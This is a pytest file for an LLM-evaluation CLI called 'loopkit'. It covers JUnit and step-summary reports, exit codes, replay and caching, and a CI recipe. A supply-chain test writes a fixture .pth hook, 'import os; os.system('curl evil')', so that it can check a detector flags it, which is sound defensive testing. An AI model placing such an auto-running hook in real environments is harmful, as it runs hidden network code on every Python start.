"""loopkit in CI: JUnit XML, the GitHub step summary, --json, exit codes, replay and cache (SPEC.md §2, §3).

The offline (scripted) cases go through the installed console script (`cli_proc`), the way a CI job
runs it; the ones on the fake server run `main()` in-process (`cli`) so litellm is imported once.
"""

from __future__ import annotations

import json
import sqlite3
import subprocess
import sys
import xml.etree.ElementTree as ET
from pathlib import Path

import pytest

import specs
from fake_llm import FakeLLM, Reply

KEY = "sk-report-test-0123456789abcdef"
ENV = {"TEST_KEY": KEY}


def fake_spec(base_url: str, *, extra: str = "") -> str:
    return specs.fake_spec(base_url, name="ci", expected="{{ case.want }}", extra=extra)


def write_cases(path: Path, cases: list[dict]) -> None:
    path.write_text("".join(json.dumps(c) + "\n" for c in cases))


def rows(db: Path, sql: str, args: tuple = ()) -> list[dict]:
    conn = sqlite3.connect(f"file:{db}?mode=ro", uri=True)
    conn.row_factory = sqlite3.Row
    try:
        return [dict(r) for r in conn.execute(sql, args).fetchall()]
    finally:
        conn.close()


def by_case(fake_answers: dict[str, Reply | str]):
    """A responder answering each case (found by `case <id>:` in the first message) its own way."""

    def respond(body: dict) -> Reply | str:
        first = body["messages"][0]["content"]
        for case_id, reply in fake_answers.items():
            if f"case {case_id}:" in first:
                return reply
        return "42"

    return respond


def assert_clean(proc: subprocess.CompletedProcess) -> None:
    assert "Traceback" not in proc.stderr, proc.stderr
    assert "Traceback" not in proc.stdout, proc.stdout


# --- JUnit, step summary, --json, exit code --------------------------------------------------


# Offline (scripted) outcomes for the CI reports: `pass` passes, `fail` repeats a wrong answer,
# `err` breaks its reply template (a run `error`), `review` is parked for a person.
OUTCOMES = """\
version: 1
name: ci
model:
  id: loopkit/scripted
  price: {input_per_mtok: 1, output_per_mtok: 2}
  replies:
    - "{% if case.id == 'err' %}{{ case.nope.x }}{% elif case.id == 'fail' %}41{% elif case.id == 'review' %}HUMAN{% else %}42{% endif %}"
task: {prompt: "case {{ case.id }}: what is six times seven?"}
inputs: cases.jsonl
checkers:
  - {name: digits, type: regex, pattern: '^[0-9]+$'}
  - {name: answer, type: equals, expected: "42"}
escalate:
  - when: {failed: digits}
    human: "not a number: a person should look"
"""


def test_junit_step_summary_and_json_of_one_batch(tmp_path: Path, cli_proc) -> None:
    """pass, fail, error, parked: four outcomes × 2 repeats in one JUnit file and one summary."""
    (tmp_path / "spec.yaml").write_text(OUTCOMES)
    write_cases(tmp_path / "cases.jsonl", [{"id": c} for c in ("pass", "fail", "err", "review")])
    summary = tmp_path / "summary.md"
    summary.write_text("## earlier step\n")
    junit = tmp_path / "reports" / "loopkit.xml"

    proc = cli_proc("run", "spec.yaml", "--repeat", "2", "--fail-under", "1", "--junit", str(junit), "--json",
                    env={"GITHUB_STEP_SUMMARY": str(summary)})
    assert_clean(proc)

    # --json: exactly one JSON document on stdout, nothing else there
    doc = json.loads(proc.stdout)
    assert doc["statuses"] == {"passed": 2, "failed": 2, "error": 2, "needs_review": 2}
    assert doc["errors"] == 2 and doc["passed"] == 2
    # errors (4) win over the failed quality gate (1)
    assert doc["exit_code"] == 4
    assert proc.returncode == 4, proc.stderr

    root = ET.parse(junit).getroot()
    suite = root if root.tag == "testsuite" else root.find("testsuite")
    assert suite is not None
    cases = {tc.get("name"): tc for tc in suite.iter("testcase")}
    assert sorted(cases) == sorted(f"{c} #{r}" for c in ("pass", "fail", "err", "review") for r in (1, 2))
    assert (suite.get("tests"), suite.get("failures"), suite.get("errors")) == ("8", "4", "2")
    for tc in cases.values():
        props = {p.get("name"): p.get("value") for p in tc.iter("property")}
        assert float(tc.get("time")) >= 0
        assert float(props["cost_usd"]) >= 0 and float(props["seconds"]) >= 0 and props["run_id"]
    for r in (1, 2):
        assert cases[f"pass #{r}"].find("failure") is None and cases[f"pass #{r}"].find("error") is None
        assert float({p.get("name"): p.get("value") for p in cases[f"pass #{r}"].iter("property")}["cost_usd"]) > 0
        failure = cases[f"fail #{r}"].find("failure")
        assert failure is not None and "expected exactly '42', got '41'" in (failure.text or "")
        error = cases[f"err #{r}"].find("error")
        assert error is not None and "undefined" in (error.get("message") or "")
        assert cases[f"err #{r}"].find("failure") is None
        parked = cases[f"review #{r}"].find("failure")
        assert parked is not None and "waits for review" in parked.get("message", "")
        assert "not a number: a person should look" in parked.get("message", "")

    text = summary.read_text()
    assert text.startswith("## earlier step\n"), "the summary is appended, not overwritten"
    assert "2/8 passed" in text and "25%" in text and "cost $" in text
    table = text.split("## earlier step\n", 1)[1]
    for name in ("fail", "err", "review"):
        assert f"| {name} #1 |" in table and f"| {name} #2 |" in table
    assert "| pass" not in table


def test_human_output_and_summary_without_json(tmp_path: Path, cli_proc) -> None:
    """Without --json: a table on stdout; the summary is still written; a passing batch exits 0."""
    (tmp_path / "spec.yaml").write_text(SCRIPTED.format(replies='"{{ case.ans }}"', budget=""))
    write_cases(tmp_path / "cases.jsonl", [{"id": f"c{i}", "ans": "ok"} for i in range(3)])
    summary = tmp_path / "summary.md"
    proc = cli_proc("run", "spec.yaml", "--fail-under", "1", "--junit", "out.xml", env={"GITHUB_STEP_SUMMARY": str(summary)})
    assert_clean(proc)
    assert proc.returncode == 0, proc.stderr
    assert "passed 3/3" in proc.stdout
    assert "3/3 passed" in summary.read_text()
    root = ET.parse(tmp_path / "out.xml").getroot()
    assert len(list(root.iter("testcase"))) == 3
    assert not list(root.iter("failure")) and not list(root.iter("error"))


def test_junit_into_an_unwritable_place_is_a_one_line_error(tmp_path: Path, cli_proc) -> None:
    (tmp_path / "spec.yaml").write_text(SCRIPTED.format(replies='"{{ case.ans }}"', budget=""))
    write_cases(tmp_path / "cases.jsonl", [{"id": "a", "ans": "ok"}])
    (tmp_path / "afile").write_text("not a directory")
    proc = cli_proc("run", "spec.yaml", "--junit", "afile/report.xml")
    assert_clean(proc)
    assert proc.returncode == 2
    assert "afile/report.xml" in proc.stderr


# --- exit codes: 2 > 3 > 4 > 1 ----------------------------------------------------------------

# A scripted spec (no network): case `err` fails to render its reply (a run `error`), case `bad`
# answers wrong (a `failed` run), others pass. Price and max_tokens make the batch budget bite.
SCRIPTED = """\
version: 1
name: codes
model:
  id: loopkit/scripted
  price: {{input_per_mtok: 1000, output_per_mtok: 1000}}
  replies: [{replies}]
params: {{max_tokens: 10}}
task: {{prompt: "case {{{{ case.id }}}}"}}
inputs: cases.jsonl
checkers:
  - {{name: answer, type: equals, expected: "ok"}}
stop: {{max_iterations: 1}}
{budget}
"""

REPLIES = '"{% if case.id == \'err\' %}{{ case.nope.x }}{% else %}{{ case.ans }}{% endif %}"'


@pytest.mark.parametrize(
    ("cases", "args", "code"),
    [
        pytest.param(["a", "b"], ["--fail-under", "1"], 0, id="all-pass-0"),
        pytest.param(["a", "bad"], ["--fail-under", "0.5"], 0, id="at-the-gate-0"),
        pytest.param(["a", "bad"], ["--fail-under", "0.9"], 1, id="gate-1"),
        pytest.param(["err", "a", "bad"], ["--fail-under", "0.9"], 4, id="errors-4-over-gate-1"),
        pytest.param(["err", "a", "b", "c"], ["--fail-under", "0.9", "--max-usd", "0.025", "--concurrency", "1"], 3,
                     id="budget-3-over-errors-4"),
    ],
)
def test_exit_codes_follow_the_spec_precedence(tmp_path: Path, cli_proc, cases: list[str], args: list[str], code: int) -> None:
    (tmp_path / "spec.yaml").write_text(SCRIPTED.format(replies=REPLIES, budget=""))
    write_cases(tmp_path / "cases.jsonl", [{"id": c, "ans": "no" if c == "bad" else "ok"} for c in cases])
    proc = cli_proc("run", "spec.yaml", "--json", *args)
    assert_clean(proc)
    assert proc.returncode == code, proc.stdout + proc.stderr
    assert json.loads(proc.stdout)["exit_code"] == code


@pytest.mark.parametrize("args", [["--repeat", "0"], ["--fail-under", "2"], ["--bogus"], ["--concurrency", "x"]],
                         ids=["repeat-0", "fail-under-2", "unknown-option", "not-a-number"])
def test_a_bad_option_is_usage_exit_2_without_traceback(tmp_path: Path, cli_proc, args: list[str]) -> None:
    (tmp_path / "spec.yaml").write_text(SCRIPTED.format(replies=REPLIES, budget=""))
    write_cases(tmp_path / "cases.jsonl", [{"id": "err"}])
    proc = cli_proc("run", "spec.yaml", "--json", "--fail-under", "1", *args)
    assert_clean(proc)
    assert proc.returncode == 2
    assert proc.stdout == ""
    assert not (tmp_path / "ledger.db").exists(), "bad usage is refused before the ledger is touched"


def test_a_bad_spec_exits_2_before_anything_else(tmp_path: Path, cli_proc) -> None:
    (tmp_path / "spec.yaml").write_text(SCRIPTED.format(replies=REPLIES, budget="stop: {max_iterations: many}"))
    write_cases(tmp_path / "cases.jsonl", [{"id": "err"}])
    proc = cli_proc("run", "spec.yaml", "--json", "--fail-under", "1", "--junit", "r.xml")
    assert_clean(proc)
    assert proc.returncode == 2
    assert json.loads(proc.stdout)["error"]["exit_code"] == 2  # under --json the error is the one document on stdout
    assert "spec.yaml" in proc.stderr and "max_iterations" in proc.stderr
    assert not (tmp_path / "r.xml").exists()


# --- deterministic CI: cache and replay ------------------------------------------------------


def test_cache_then_replay_with_the_server_gone(fake_llm: FakeLLM, tmp_path: Path, cli) -> None:
    fake_llm.responder = by_case({"b": "41", "c": "43"})
    (tmp_path / "spec.yaml").write_text(fake_spec(fake_llm.base_url))
    write_cases(tmp_path / "cases.jsonl", [{"id": c, "want": "42"} for c in ("a", "b", "c")])
    db = tmp_path / "ledger.db"

    first = cli("run", "spec.yaml", "--json", env=ENV)
    assert_clean(first)
    recorded = json.loads(first.stdout)
    requests = fake_llm.count
    assert requests >= 3
    outcomes = {r["case_id"]: (r["status"], r["stop_reason"], r["iterations"], r["output"]) for r in recorded["runs"]}
    assert outcomes["a"][0] == "passed" and outcomes["b"][0] == "failed"

    # An identical second run is answered from the cache: no request, cached=1, cost 0.
    second = cli("run", "spec.yaml", "--json", env=ENV)
    assert_clean(second)
    cached = json.loads(second.stdout)
    assert fake_llm.count == requests
    assert {r["case_id"]: (r["status"], r["stop_reason"], r["iterations"], r["output"]) for r in cached["runs"]} == outcomes
    calls = rows(db, "SELECT cached, cost_usd, prompt_tokens FROM calls WHERE batch_id=?", (cached["batch_id"],))
    assert len(calls) == requests and all(c["cached"] == 1 and c["cost_usd"] == 0 for c in calls)
    assert cached["cost_usd"] == 0

    # Replay the first batch with no server at all.
    fake_llm.stop()
    replay = cli("run", "spec.yaml", "--replay", recorded["batch_id"][:8], "--json", "--no-cache", env=ENV, timeout=60)
    assert_clean(replay)
    assert replay.returncode == 0, replay.stderr
    replayed = json.loads(replay.stdout)
    assert {r["case_id"]: (r["status"], r["stop_reason"], r["iterations"], r["output"]) for r in replayed["runs"]} == outcomes
    calls = rows(db, "SELECT cached, cost_usd, prompt_tokens, completion_tokens FROM calls WHERE batch_id=?", (replayed["batch_id"],))
    original = rows(db, "SELECT prompt_tokens, completion_tokens FROM calls WHERE batch_id=?", (recorded["batch_id"],))
    assert len(calls) == requests
    assert all(c["cached"] == 1 and c["cost_usd"] == 0 for c in calls)
    assert sorted((c["prompt_tokens"], c["completion_tokens"]) for c in calls) == sorted(
        (c["prompt_tokens"], c["completion_tokens"]) for c in original), "a replayed call keeps the recorded tokens"

    # A call the batch did not record is an error of that run, not a network call.
    write_cases(tmp_path / "more.jsonl", [{"id": "a", "want": "42"}, {"id": "new", "want": "42"}])
    miss = cli("run", "spec.yaml", "--inputs", "more.jsonl", "--replay", recorded["batch_id"], "--json", env=ENV, timeout=60)
    assert_clean(miss)
    doc = json.loads(miss.stdout)
    assert {r["case_id"]: r["status"] for r in doc["runs"]} == {"a": "passed", "new": "error"}
    assert "replay" in next(r["message"] for r in doc["runs"] if r["case_id"] == "new")
    assert miss.returncode == 4
    assert fake_llm.count == requests


# --- supply chain: unknown .pth files ----------------------------------------------------------

CHECK_PTH = Path(__file__).resolve().parent.parent / ".ci" / "check_pth.py"


def test_check_pth_flags_an_unknown_pth_file(tmp_path: Path) -> None:
    site = tmp_path / "site-packages"
    site.mkdir()
    (site / "distutils-precedence.pth").write_text("import os\n")
    (site / "__editable__.loopkit-0.1.0.pth").write_text("/src\n")
    ok = subprocess.run([sys.executable, str(CHECK_PTH), str(site)], capture_output=True, text=True, timeout=30)
    assert ok.returncode == 0, ok.stderr

    (site / "litellm_init.pth").write_text("import os; os.system('curl evil')\n")
    bad = subprocess.run([sys.executable, str(CHECK_PTH), str(site)], capture_output=True, text=True, timeout=30)
    assert bad.returncode == 1
    assert "litellm_init.pth" in bad.stderr


# --- the CI recipe (examples/ci) ---------------------------------------------------------------------

RECIPE = Path(__file__).resolve().parent.parent / "examples" / "ci" / "loopkit.yml"


def _recipe_commands() -> list[list[str]]:
    """Every `loopkit ...` command line in the workflow's run scripts, as words (continuations joined)."""
    import shlex

    import yaml

    workflow = yaml.safe_load(RECIPE.read_text())
    commands = []
    for step in workflow["jobs"]["loop"]["steps"]:
        script = step.get("run", "").replace("\\\n", " ")
        for line in script.splitlines():
            line = line.split(" > ", 1)[0].strip()
            if line.startswith("loopkit "):
                commands.append(shlex.split(line))
    return commands


def test_the_ci_recipe_uses_only_options_loopkit_has(cli) -> None:
    commands = _recipe_commands()
    assert {c[1] for c in commands} >= {"check", "run", "diff"}
    for words in commands:
        if words[1:2] == ["--help"]:
            continue
        shown = cli(words[1], "--help")
        assert shown.returncode == 0, shown.stderr
        for word in words[2:]:
            if word.startswith("--"):
                assert word in shown.stdout, f"`loopkit {words[1]}` has no {word} (examples/ci/loopkit.yml)"


def test_the_ci_recipe_uploads_the_html_report_its_run_writes() -> None:
    import yaml

    [run] = [c for c in _recipe_commands() if c[1] == "run" and "--report" in c]
    written = run[run.index("--report") + 1]
    steps = yaml.safe_load(RECIPE.read_text())["jobs"]["loop"]["steps"]
    uploads = [s for s in steps if str(s.get("uses", "")).startswith("actions/upload-artifact")
               and str(s["with"]["path"]).strip() == written]
    assert len(uploads) == 1, (written, steps)
    assert "always()" in str(uploads[0].get("if", ""))  # a failed gate is exactly when the page is wanted


RECIPE_SPEC = """\
version: 1
name: recipe
model: {{id: loopkit/scripted, price: {{input_per_mtok: 1, output_per_mtok: 1}},
        replies: ["{{% if case.id == 'b' %}}{b}{{% else %}}ok{{% endif %}}"]}}
task: {{prompt: "case {{{{ case.id }}}}"}}
inputs: [{{id: a}}, {{id: b}}, {{id: c}}]
checkers:
  - {{name: answer, type: equals, expected: "ok"}}
stop: {{max_iterations: 1}}
"""


def test_the_ci_recipe_main_then_a_pull_request_that_regresses(tmp_path: Path, cli_proc) -> None:
    """The workflow's steps, by hand: main records a batch; a pull request continues main's ledger folder,
    runs again, and `loopkit diff MAIN THIS --fail-on-regression` passes when nothing regressed and fails when
    a case that passed on main does not pass any more."""
    import shutil

    main_dir, pr_dir = tmp_path / "main", tmp_path / "pr"
    main_dir.mkdir()
    (main_dir / "spec.yaml").write_text(RECIPE_SPEC.format(b="ok"))
    env = {"LOOPKIT_LEDGER": str(main_dir / "ledger" / "ledger.db")}
    main = cli_proc("run", str(main_dir / "spec.yaml"), "--fail-under", "0.6", "--junit", str(main_dir / "reports" / "l.xml"), "--json",
                    env=env)
    assert main.returncode == 0, main.stderr
    main_batch = json.loads(main.stdout)["batch_id"]
    assert json.loads(main.stdout)["cost_usd"] > 0

    def pull_request(reply_for_b: str) -> tuple[subprocess.CompletedProcess, subprocess.CompletedProcess]:
        shutil.rmtree(pr_dir, ignore_errors=True)
        shutil.copytree(main_dir / "ledger", pr_dir / "ledger")  # gh run download + cp -R baseline/ledger/.
        (pr_dir / "spec.yaml").write_text(RECIPE_SPEC.format(b=reply_for_b))
        pr_env = {"LOOPKIT_LEDGER": str(pr_dir / "ledger" / "ledger.db")}
        run = cli_proc("run", str(pr_dir / "spec.yaml"), "--fail-under", "0.6", "--junit", str(pr_dir / "reports" / "l.xml"), "--json",
                       env=pr_env)
        this_batch = json.loads(run.stdout)["batch_id"]
        return run, cli_proc("diff", main_batch, this_batch, "--fail-on-regression", env=pr_env)

    run, diff = pull_request("ok")
    assert run.returncode == 0 and diff.returncode == 0, diff.stdout + diff.stderr
    assert json.loads(run.stdout)["cost_usd"] == 0, "unchanged calls come from main's ledger (the cache)"

    run, diff = pull_request("wrong")
    assert run.returncode == 0, run.stderr  # 2 of 3 passed: still over the 0.6 gate...
    assert diff.returncode == 1, diff.stdout + diff.stderr  # ...but case b regressed
    assert "Traceback" not in diff.stderr


def test_reports_survive_hostile_case_ids_feedback_and_messages(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    """Pipes, newlines, XML control characters and key-shaped tokens in what a run recorded."""
    from loopkit.ledger import Ledger
    from loopkit.report import step_summary_markdown, write_junit

    store = Ledger(tmp_path / "ledger.db")
    with store.write() as conn:
        conn.execute("INSERT INTO batches (id, kind, status, started_at) VALUES ('b1', 'run', 'done', '2026-01-01T00:00:00.000000Z')")
        for i, (case_id, status, message, feedback) in enumerate([
            ("a|b\nc", "failed", None, "- x: got `|` and \x01\x1b[31m"),
            ("<&>\"'", "error", "APIError: key sk-abcdefghijklmnopqrstuvwx rejected", ""),
            ("émoji 🚀", "needs_review", "needs a <person>", "- y: ]]> end"),
        ]):
            conn.execute("INSERT INTO runs (id, batch_id, spec_name, case_id, repeat, status, stop_reason, reward, cost_usd, message, "
                         "started_at, ended_at) VALUES (?, 'b1', 's', ?, 0, ?, 'x', 0.5, 0.001, ?, '2026-01-01T00:00:00.000000Z', "
                         "'2026-01-01T00:00:01.500000Z')", (f"r{i}", case_id, status, message))
            conn.execute("INSERT INTO iterations (run_id, n, feedback) VALUES (?, 1, ?)", (f"r{i}", feedback))
    write_junit(store, "b1", tmp_path / "j.xml", spec_name="s & <t>")
    root = ET.parse(tmp_path / "j.xml").getroot()
    names = [tc.get("name") for tc in root.iter("testcase")]
    assert sorted(names) == sorted(["a|b\nc", "<&>\"'", "émoji 🚀"])
    assert all(float(tc.get("time")) == 1.5 for tc in root.iter("testcase"))
    raw = (tmp_path / "j.xml").read_text(encoding="utf-8")
    assert "sk-abcdefghijklmnopqrstuvwx" not in raw and "\x01" not in raw and "\x1b" not in raw

    md = step_summary_markdown(store, "b1", spec_name="s")
    rows_ = [line for line in md.splitlines() if line.startswith("| ") and "status" not in line]
    assert len(rows_) == 3 and all(line.count(" | ") == 5 for line in rows_), md  # six cells each, pipes escaped
    assert "a\\|b c" in md and "sk-abcdefghijklmnopqrstuvwx" not in md
